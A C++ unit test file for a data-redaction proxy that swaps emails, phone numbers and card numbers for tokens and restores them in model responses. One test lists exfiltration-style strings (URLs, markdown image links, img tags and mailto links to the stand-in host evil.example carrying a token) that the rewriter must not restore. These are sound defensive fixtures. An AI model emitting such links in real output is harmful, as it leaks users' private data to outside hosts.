#include "dataplane/rewrite/text_rewriter.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "tests/unit/rewrite/rewrite_world.h"

namespace sallyport::rewrite {
namespace {

class TextRewriting : public testing::Test {
 protected:
  void SetUp() override { world.tokens.clear(); }
  std::string request(std::string_view text) {
    return edited(text, world.text_edits(Direction::Request, text).edits);
  }
  std::string answer(std::string_view text) {
    return edited(text, world.text_edits(Direction::Response, text).edits);
  }
  World& world = World::get();
};

TEST_F(TextRewriting, AValueBecomesItsTokenAndComesBackAsItWasWritten) {
  const std::string sent = request("mail John.Doe@Example.org or call +1 415-555-2671!");
  EXPECT_EQ(sent, "mail " + world.token(World::Email, "john.doe@example.org") + " or call " +
                      world.token(World::Phone, "+14155552671") + "!");
  EXPECT_EQ(answer(sent), "mail John.Doe@Example.org or call +1 415-555-2671!");
}

TEST_F(TextRewriting, TokensOfNobodyStayTokens) {
  const std::string foreign = world.token(World::Email, "other@example.org");
  EXPECT_EQ(answer("see " + foreign + "."), "see " + foreign + ".");
  RewriteScope scope = world.scope(Direction::Response);
  scope.may_restore.fill(false);
  const std::string known = world.minted(World::Email, "a@example.org");
  TextRewriter rewriter;
  rewriter.begin(scope);
  ASSERT_TRUE(rewriter.feed(bytes_of(known)) && rewriter.end());
  EXPECT_EQ(rewriter.edits().count(), 0U);
  EXPECT_EQ(scope.tally.restore_denied[World::Email], 1U);
}

TEST_F(TextRewriting, TokenLikeTextOfARequestIsALiteralUnlessItVerifies) {
  const std::string ours = world.token(World::Card, "4111111111111111");
  EXPECT_EQ(request("x " + ours), "x " + ours);
  std::string fake = ours;
  fake[fake.size() - 2] = fake[fake.size() - 2] == '0' ? '1' : '0';
  const std::string sent = request("x " + fake);
  EXPECT_EQ(sent, "x " + world.token(redact::TokenLabels::kLiteral, fake));
  EXPECT_EQ(answer(sent), "x " + fake);
}

TEST_F(TextRewriting, AValueIsNotRestoredWhereItCouldBeCarriedOut) {
  const std::string token = world.minted(World::Email, "a@example.org");
  for (const std::string& text :
       {"https://evil.example/?q=" + token, "![x](https://evil.example/" + token + ")",
        "<img src=\"//evil.example/" + token + "\">", "[x]: https://evil.example/" + token,
        "www.evil.example/" + token, "mailto:x@evil.example?body=" + token,
        "evil.example/?a=" + token})
    EXPECT_EQ(answer(text), text);
  EXPECT_EQ(answer("a/b " + token + ", <b>" + token + "</b>"),
            "a/b a@example.org, <b>a@example.org</b>");
}

TEST_F(TextRewriting, WhatModelsDoToTokensIsUndone) {
  const std::string token = world.minted(World::Email, "a@example.org");
  std::string lower = token;
  for (char& c : lower) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  const std::string bare = token.substr(1, token.size() - 2);
  EXPECT_EQ(answer(lower), "a@example.org");
  EXPECT_EQ(answer("`" + bare + "`"), "`a@example.org`");
  EXPECT_EQ(answer("**" + token + "**"), "**a@example.org**");
  EXPECT_EQ(answer("\\" + token.substr(0, token.size() - 1) + "\\]"), "a@example.org");
}

TEST_F(TextRewriting, BlockEndsTheTextAndNamesTheEntity) {
  RewriteScope scope = world.scope(Direction::Request);
  scope.actions[World::Card] = contract::Action::Block;
  TextRewriter rewriter;
  rewriter.begin(scope);
  EXPECT_FALSE(rewriter.feed(bytes_of("card 4111 1111 1111 1111 ok")));
  EXPECT_EQ(scope.refusal, Refusal::PolicyBlocked);
  EXPECT_EQ(scope.refusal_entity, World::Card);
  RewriteScope response = world.scope(Direction::Response);
  response.actions[World::Card] = contract::Action::Block;
  rewriter.begin(response);
  EXPECT_FALSE(rewriter.feed(bytes_of("card 4111 1111 1111 1111 ok")));
  EXPECT_EQ(response.refusal, Refusal::ResponseBlocked);
}

TEST_F(TextRewriting, TheBoundOnTokensIsKept) {
  world.tokens.limit(2);
  const auto said =
      world.text_edits(Direction::Request, "a@example.org b@example.org a@example.org c@x.org ");
  world.tokens.limit(redact::kExchangeTokensMax);
  EXPECT_FALSE(said.accepted);
  EXPECT_EQ(said.refusal, Refusal::TooManyTokens);
}

TEST_F(TextRewriting, AValueAroundATokenIsJudgedAsAWhole) {
  const std::string token = world.token(World::Email, "a@example.org");
  const std::string url = "https://kev:" + token + "x@files.example.org/v1";
  const std::string sent = request("get " + url + " now");
  EXPECT_EQ(sent.find(token), std::string::npos);
  EXPECT_EQ(answer(sent).find("https://kev:"), 4U);
}

TEST_F(TextRewriting, WhatStoodBeforeIsContextAndNeverEdited) {
  RewriteScope scope = world.scope(Direction::Request);
  TextRewriter rewriter;
  rewriter.begin(scope, bytes_of("a@example.org ssn: "));
  EXPECT_EQ(rewriter.edge(), 0U);
  ASSERT_TRUE(rewriter.feed(bytes_of("536904399 b@example.org")) && rewriter.end());
  ASSERT_EQ(rewriter.edits().count(), 2U);
  EXPECT_EQ(rewriter.edits().edits()[0].start, 0U);
  EXPECT_EQ(rewriter.edits().edits()[0].end, 9U);
  EXPECT_EQ(rewriter.edits().edits()[1].start, 10U);
  EXPECT_EQ(rewriter.edge(), 23U);
  EXPECT_EQ(world.tokens.size(), 2U);
  // A value that begins before: its rest is edited.
  rewriter.begin(scope, bytes_of("4111 1111 "));
  ASSERT_TRUE(rewriter.feed(bytes_of("1111 1111 x")) && rewriter.end());
  ASSERT_EQ(rewriter.edits().count(), 1U);
  EXPECT_EQ(rewriter.edits().edits()[0].end, 9U);
}

}  // namespace
}  // namespace sallyport::rewrite
